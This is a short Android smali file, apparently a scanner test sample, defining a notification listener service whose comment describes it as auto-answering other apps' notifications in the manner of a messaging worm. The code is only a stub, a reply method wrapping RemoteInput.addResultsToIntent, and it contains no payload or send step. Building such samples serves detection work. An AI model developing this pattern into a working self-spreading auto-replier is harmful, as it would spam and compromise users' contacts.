.class public Lorg/apkscan/sample/tracker/NotifyHelper;
.super Landroid/service/notification/NotificationListenerService;
.source "NotifyHelper.java"

# Answers other apps' notifications with a fixed text (a messaging worm's shape).
.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/service/notification/NotificationListenerService;-><init>()V
    return-void
.end method

.method public reply([Landroid/app/RemoteInput;Landroid/content/Intent;Landroid/os/Bundle;)V
    .registers 4
    invoke-static {p1, p2, p3}, Landroid/app/RemoteInput;->addResultsToIntent([Landroid/app/RemoteInput;Landroid/content/Intent;Landroid/os/Bundle;)V
    return-void
.end method
